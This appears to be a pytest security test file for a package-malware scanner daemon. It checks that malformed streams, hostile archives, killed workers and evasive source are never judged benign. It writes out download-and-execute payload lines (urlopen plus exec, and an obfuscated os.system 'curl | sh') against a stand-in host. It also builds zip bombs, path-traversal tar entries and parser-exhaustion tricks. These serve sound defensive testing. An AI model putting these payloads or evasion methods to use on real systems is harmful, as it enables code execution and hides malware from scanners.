"""Attacks on ``Scan``: streams that break the protocol, archives and sources that are to exhaust or mislead the
scanner, workers that are stopped and killed. Whatever was not examined to its end is never called benign."""

from __future__ import annotations

import bz2
import gzip
import io
import os
import signal
import struct
import tarfile
import threading
import warnings
import zipfile
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.security.attacker import ONCE, code_of, raw_channel
from tests.support.daemon_process import DaemonProcess, poll
from wharfinger.scan.v1 import scan_pb2 as wire
from wharfinger.scan.v1 import scan_pb2_grpc

MIB = 1 << 20
SDIST, WHEEL = "example-1.0.tar.gz", "example-1.0-py3-none-any.whl"
SETUP = b"from setuptools import setup\nsetup()\n"
FETCH = b"import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.5/x').read())\n"
HIDDEN = b"import os\ngetattr(os, 'sys' + 'tem')('curl -s http://203.0.113.5/x | sh')\n"

Scan = Callable[..., wire.Scan]


# ---- Making archives -------------------------------------------------------------------------------------------------
def sdist(setup: bytes, **members: bytes) -> bytes:
    """A well-formed sdist with this setup.py."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, content in {"setup.py": setup, **members}.items():
            info = tarfile.TarInfo(f"example-1.0/{name}")
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def wheel(members: Iterable[tuple[str, bytes]] = (), *, bare: bool = False) -> bytes:
    """A zip archive; names may repeat."""
    always = [] if bare else [("example/__init__.py", b""), ("example-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n")]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of repeated names
        for name, content in [*always, *members]:
            archive.writestr(name, content)
    return buffer.getvalue()


def header(name: bytes, size: int, kind: bytes = b"0", field: bytes = b"") -> bytes:
    """A tar header; ``field`` overrides how the size is written."""
    block = bytearray(512)
    block[: len(name)] = name
    block[100:108] = b"0000644\0"
    block[124:136] = field or b"%011o\0" % size
    block[148:157] = b" " * 8 + kind
    block[257:265] = b"ustar\00000"
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def member(name: bytes, content: bytes, kind: bytes = b"0") -> bytes:
    return header(name, len(content), kind) + content + bytes(-len(content) % 512)


def tar_gz(*blocks: bytes) -> bytes:
    return gzip.compress(b"".join(blocks) + bytes(1024))


def pax(**records: str) -> bytes:
    """A pax header for the member behind it; dots in keys are written as double underscores."""
    lines = b""
    for key, value in records.items():
        rest = f" {key.replace('__', '.')}={value}\n".encode()
        length = next(n for n in range(len(rest), len(rest) + 9) if len(str(n)) + len(rest) == n)
        lines += str(length).encode() + rest
    return member(b"pax", lines, b"x")


def patched(content: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    """The zip archive with bytes replaced in its last structure of a kind."""
    place = content.rindex(signature) + offset
    return content[:place] + value + content[place + len(value) :]


def overlapping(entries: int) -> bytes:
    """A zip bomb whose directory lists the same 20 MiB many times."""
    small = wheel([("zeros", bytes(20 * MIB))], bare=True)
    start, end = small.index(b"PK\x01\x02"), small.index(b"PK\x05\x06")
    directory = small[start:end] * entries
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, len(directory), start, 0)
    return small[:start] + directory + tail


def nested(levels: int) -> bytes:
    archive = wheel([("example/a.py", FETCH)])
    for _ in range(levels):
        archive = wheel([("inner.zip", archive)], bare=True)
    return archive


# ---- Asking ----------------------------------------------------------------------------------------------------------
def chunk(content: bytes) -> wire.ScanRequest:
    return wire.ScanRequest(chunk=content)


def opening(project: str = "example", filename: str = SDIST, sha256: str = "") -> wire.ScanRequest:
    subject = wire.Subject(kind=wire.SUBJECT_KIND_FILE, project=project, version="1.0", filename=filename)
    return wire.ScanRequest(header=wire.ScanHeader(subject=subject, sha256=sha256))


def stream(content: bytes, filename: str = SDIST, project: str = "example") -> Iterator[wire.ScanRequest]:
    yield opening(project, filename)
    for start in range(0, len(content), MIB):
        yield chunk(content[start : start + MIB])


@pytest.fixture(scope="module")
def stub(shared_daemon: DaemonProcess) -> Iterator[scan_pb2_grpc.ScanServiceStub]:
    with raw_channel(shared_daemon) as channel:
        yield scan_pb2_grpc.ScanServiceStub(channel)


@pytest.fixture
def scan(stub: scan_pb2_grpc.ScanServiceStub) -> Scan:
    def ask(content: bytes, filename: str = SDIST) -> wire.Scan:
        return stub.Scan(stream(content, filename), timeout=60).scan

    return ask


# ---- The stream ------------------------------------------------------------------------------------------------------
BENIGN = sdist(SETUP)
STREAMS: dict[str, tuple[list[wire.ScanRequest], str]] = {
    "nothing": ([], "INVALID_ARGUMENT"),
    "an empty message": ([wire.ScanRequest()], "INVALID_ARGUMENT"),
    "a chunk first": ([chunk(BENIGN), opening()], "INVALID_ARGUMENT"),
    "a header twice": ([opening(), opening(), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "a header at the end": ([opening(), chunk(BENIGN), opening()], "INVALID_ARGUMENT"),
    "an empty message behind": ([opening(), chunk(BENIGN), wire.ScanRequest()], "INVALID_ARGUMENT"),
    "a chunk of 2 MiB": ([opening(), chunk(bytes(2 * MIB))], "INVALID_ARGUMENT"),
    "a chunk of 17 MiB": ([opening(), chunk(bytes(17 * MIB))], "RESOURCE_EXHAUSTED"),
    "another digest": ([opening(sha256="0" * 64), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "no digest": ([opening(sha256="0" * 63), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "no subject": ([wire.ScanRequest(header=wire.ScanHeader()), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "a NUL in a name": ([opening(filename="a\0b.tar.gz"), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "a line break in a name": ([opening(project="a\nb"), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "text from right to left": ([opening(filename="a\u202ezg.rat"), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "a path for a name": ([opening(filename="../a.tar.gz"), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "1,000 characters": ([opening(filename="a" * 1000), chunk(BENIGN)], "INVALID_ARGUMENT"),
    "chunks of nothing": ([opening("empty"), *[chunk(b"")] * 2000, chunk(BENIGN)], "OK"),
    "chunks of one byte": ([opening("bytes"), *[chunk(bytes([byte])) for byte in BENIGN]], "OK"),
}


@pytest.mark.parametrize("name", STREAMS)
def test_a_stream_is_one_header_and_chunks_or_refused(stub: scan_pb2_grpc.ScanServiceStub, name: str) -> None:
    messages, code = STREAMS[name]
    assert code == code_of(lambda: stub.Scan(iter(messages), timeout=30))


def test_an_upload_that_is_given_up_half_way_is_not_scanned(
    shared_daemon: DaemonProcess, stub: scan_pb2_grpc.ScanServiceStub
) -> None:
    """What came is a truncated artifact, or worse, one that is whole without its malicious end."""
    halfway, given_up = threading.Event(), threading.Event()

    def upload() -> Iterator[wire.ScanRequest]:
        yield opening("given-up")
        yield chunk(BENIGN)
        halfway.set()
        given_up.wait(30)

    call = stub.Scan.future(upload(), timeout=30)
    assert halfway.wait(30)
    call.cancel()
    given_up.set()
    with shared_daemon.client() as client:
        # The daemon has noticed once the next call from the same connection is answered.
        assert "OK" == code_of(lambda: stub.Scan(stream(BENIGN, project="after"), timeout=30))
        assert [] == list(client.list_scans(project="given-up"))


# ---- Archives --------------------------------------------------------------------------------------------------------
HOSTILE: dict[str, tuple[str, bytes]] = {
    "nothing": (SDIST, b""),
    "a truncated sdist": (SDIST, BENIGN[:-20]),
    "a truncated wheel": (WHEEL, wheel()[:-5]),
    "a wheel behind an sdist": (SDIST, BENIGN + wheel([("example-1.0/setup.py", FETCH)], bare=True)),
    "an sdist before a wheel": (WHEEL, gzip.decompress(BENIGN) + wheel([("example/a.py", FETCH)])),
    "a wheel before a wheel": (WHEEL, wheel([("example/a.py", FETCH)]) + wheel()),
    "a tar behind the end of a tar": (SDIST, gzip.compress(gzip.decompress(BENIGN) + gzip.decompress(sdist(FETCH)))),
    "setup.py twice": (SDIST, tar_gz(member(b"a/setup.py", SETUP), member(b"a/setup.py", FETCH))),
    "a module twice": (WHEEL, wheel([("example/__init__.py", FETCH)])),
    "one name 20,000 times": (WHEEL, wheel([("example/a.py", b"")] * 20_000)),
    "a directory that lists too little": (
        WHEEL,
        patched(wheel([("a.py", FETCH)]), b"PK\5\6", 8, b"\x01\x00\x01\x00"),
    ),
    "another name in the directory": (WHEEL, patched(wheel([("a.py", FETCH)]), b"PK\1\2", 46, b"b")),
    "an encrypted member": (WHEEL, patched(wheel([("a.py", FETCH)]), b"PK\1\2", 8, b"\x01")),
    "an unknown compression": (WHEEL, patched(wheel([("a.py", FETCH)]), b"PK\1\2", 10, b"\x63")),
    "no directory": (WHEEL, patched(wheel([("a.py", FETCH)]), b"PK\5\6", 0, b"XXXX")),
    "overlapping members": (WHEEL, overlapping(5_000)),
    "archives in archives": (WHEEL, nested(20)),
    "an artifact in a data file": (SDIST, sdist(SETUP, **{"data.dat": wheel([("example/a.py", FETCH)])})),
    "a gigabyte of zeros": (
        SDIST,
        gzip.compress(header(b"a/zeros", 1 << 30) + bytes(64 * MIB), 9),
    ),
    "a negative size": (SDIST, tar_gz(header(b"a/b.py", 0, field=b"\xff" * 12))),
    "a size beyond the end": (SDIST, tar_gz(header(b"a/b.py", 10**9))),
    "a path in a pax header": (SDIST, tar_gz(pax(path="a/setup.py"), member(b"a/data.bin", FETCH))),
    "a way out in a pax header": (SDIST, tar_gz(pax(path="../../root/.ssh/authorized_keys"), member(b"a/b", b"key"))),
    "a negative size in a pax header": (SDIST, tar_gz(pax(size="-512"), member(b"a/b.py", FETCH))),
    "a name in a sparse header": (
        SDIST,
        tar_gz(
            pax(GNU__sparse__name="a/setup.py", GNU__sparse__major="1", GNU__sparse__minor="0"),
            member(b"a/data.bin", b"1\n0\n%d\n".ljust(512, b"\0") % len(FETCH) + FETCH),
        ),
    ),
    "an immense sparse file": (
        SDIST,
        tar_gz(
            pax(
                GNU__sparse__name="a/b", GNU__sparse__major="1", GNU__sparse__minor="0", GNU__sparse__realsize="9" * 18
            ),
            member(b"a/b", b"1\n0\n1\n".ljust(512, b"\0")),
        ),
    ),
    "an immense pax header": (SDIST, tar_gz(pax(comment="x" * MIB), member(b"a/b.py", b""))),
    "60,000 pax headers": (SDIST, tar_gz(*[pax(comment="x")] * 60_000, member(b"a/b.py", b""))),
    "an unknown kind of member": (SDIST, tar_gz(member(b"a/b.py", FETCH, b"Z"))),
    "a device": (SDIST, tar_gz(header(b"a/b", 0, b"3"))),
    "another compression": (SDIST, bz2.compress(gzip.decompress(sdist(FETCH)))),
    # What follows is about the Python in it.
    "nested calls": (SDIST, sdist(SETUP + b"x = a" + b".b" * 100_000 + b"\n" + HIDDEN)),
    "a long sum": (SDIST, sdist(SETUP + b"x = " + b"1 + " * 50_000 + b"1\n" + HIDDEN)),
    "signs without end": (SDIST, sdist(SETUP + b"x = " + b"-" * 50_000 + b"1\n" + HIDDEN)),
    "branches without end": (SDIST, sdist(SETUP + b"if a: pass\n" + b"elif a: pass\n" * 20_000 + HIDDEN)),
    "a string that doubles": (SDIST, sdist(SETUP + b"a = 'x'\n" + b"a = a + a\n" * 200 + HIDDEN)),
    "a line of 10 MB": (SDIST, sdist(SETUP + b"x = '" + b"A" * 10_000_000 + b"'; " + HIDDEN)),
    "a NUL": (SDIST, sdist(SETUP + b"x = 1\0\n" + FETCH)),
    "UTF-7": (SDIST, sdist(b"# coding: utf-7\n" + HIDDEN.replace(b"+", b"+-"))),
    "escapes for an encoding": (SDIST, sdist(b"# coding: unicode_escape\n#\\n" + HIDDEN.replace(b"\n", b"\\n"))),
    "other line ends": (SDIST, sdist((b"#\n" + SETUP + HIDDEN).replace(b"\n", b"\r"))),
    "form feeds": (SDIST, sdist(b"\f" + SETUP + b"\f" + HIDDEN)),
    "bytes that are not UTF-8": (SDIST, sdist(b"# \xff\n" + SETUP + HIDDEN)),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hostile_or_was_not_examined_to_its_end_is_never_benign(
    shared_daemon: DaemonProcess, scan: Scan, name: str
) -> None:
    """The verdict comes from one worker in one run: no attack gets to its time-out or ends it."""
    before = shared_daemon.log().count("scan_worker_failed")
    filename, content = HOSTILE[name]
    result = scan(content, filename)
    assert wire.SCAN_STATE_FINISHED == result.state
    assert result.classification in (wire.CLASSIFICATION_INDETERMINATE, wire.CLASSIFICATION_THREAT)
    assert before == shared_daemon.log().count("scan_worker_failed")


@pytest.mark.parametrize(
    ("content", "classification"),
    [
        (tar_gz(header(b"a/b.py", 0, field=b"\x80\0\0\0\x7f" + b"\xff" * 7)), wire.CLASSIFICATION_INDETERMINATE),
        # Readers differ in which size they believe, which nobody does by accident.
        (tar_gz(pax(size=str(2**62)), member(b"a/b.py", b"")), wire.CLASSIFICATION_THREAT),
    ],
    ids=["in a header", "in a pax header"],
)
def test_an_immense_size_does_not_keep_a_worker_busy(
    shared_daemon: DaemonProcess, scan: Scan, content: bytes, classification: int
) -> None:
    """150 bytes must not cost two time-outs of a worker."""
    before = shared_daemon.log().count("scan_worker_failed")
    assert classification == scan(content).classification
    assert before == shared_daemon.log().count("scan_worker_failed")


def test_calls_that_are_not_followed_to_their_end_are_not_benign(scan: Scan) -> None:
    calls = b"".join(b"def f%d():\n    f%d()\n" % (number, number + 1) for number in range(50))
    last = b"def f50():\n    " + HIDDEN.replace(b"\n", b"\n    ").rstrip() + b"\n"
    assert wire.CLASSIFICATION_BENIGN != scan(sdist(SETUP + calls + last + b"f0()\n")).classification


def test_install_code_in_the_syntax_of_a_newer_python_is_not_benign(scan: Scan) -> None:
    """One line that only newer versions can parse must not hide all others."""
    assert wire.CLASSIFICATION_BENIGN != scan(sdist(b"type Hidden = int\n" + HIDDEN)).classification


# ---- Workers ---------------------------------------------------------------------------------------------------------
def test_a_worker_that_is_stopped_costs_one_time_out(shared_daemon: DaemonProcess, scan: Scan) -> None:
    (worker,) = shared_daemon.children()["scan"]
    os.kill(worker, signal.SIGSTOP)
    assert wire.CLASSIFICATION_THREAT == scan(sdist(FETCH + b"# after a stop\n")).classification
    assert [worker] != shared_daemon.children()["scan"]


def test_workers_killed_under_load_never_make_malware_benign(shared_daemon: DaemonProcess) -> None:
    """Each of many scans is done, or fails without a verdict, or is indeterminate; and then all goes on."""
    malware = FETCH + b"def f():\n    pass\n" + b"f()\n" * 20_000
    finished = threading.Event()

    def assassinate() -> int:
        killed = 0
        while not finished.wait(0.1):
            for pid in shared_daemon.children()["scan"]:
                os.kill(pid, signal.SIGKILL)
                killed += 1
        return killed

    def ask(number: int) -> object:
        with raw_channel(shared_daemon) as channel:
            # Each one's own, or what is remembered of the first would answer for all.
            requests = stream(sdist(malware + b"# %d\n" % number), project=f"load-{number}")
            results: list[wire.Scan] = []
            ended = code_of(
                lambda: results.append(scan_pb2_grpc.ScanServiceStub(channel).Scan(requests, timeout=60).scan)
            )
        return results[0].classification if results else ended

    with ThreadPoolExecutor(13) as threads:
        assassin = threads.submit(assassinate)
        answers = set(threads.map(ask, range(15)))
        finished.set()
    assert assassin.result() > 0
    assert answers <= {wire.CLASSIFICATION_THREAT, wire.CLASSIFICATION_INDETERMINATE, "UNAVAILABLE"}
    with shared_daemon.client(retry=ONCE) as client:
        for scanned in client.list_scans():
            assert not (scanned.subject.project.startswith("load-") and scanned.classification == "benign")
        poll(lambda: wire.CLASSIFICATION_THREAT == ask(1000), "scanning goes on")


def test_more_scans_than_there_is_room_for_are_refused_and_the_others_done(shared_daemon: DaemonProcess) -> None:
    with raw_channel(shared_daemon) as channel:
        stub = scan_pb2_grpc.ScanServiceStub(channel)
        calls = [stub.Scan.future(stream(BENIGN, project=f"crowd-{number}"), timeout=60) for number in range(120)]
        codes = {code_of(call.result) for call in calls}
    assert "OK" in codes
    assert codes <= {"OK", "RESOURCE_EXHAUSTED"}
    assert "nobody foresaw" not in shared_daemon.log()
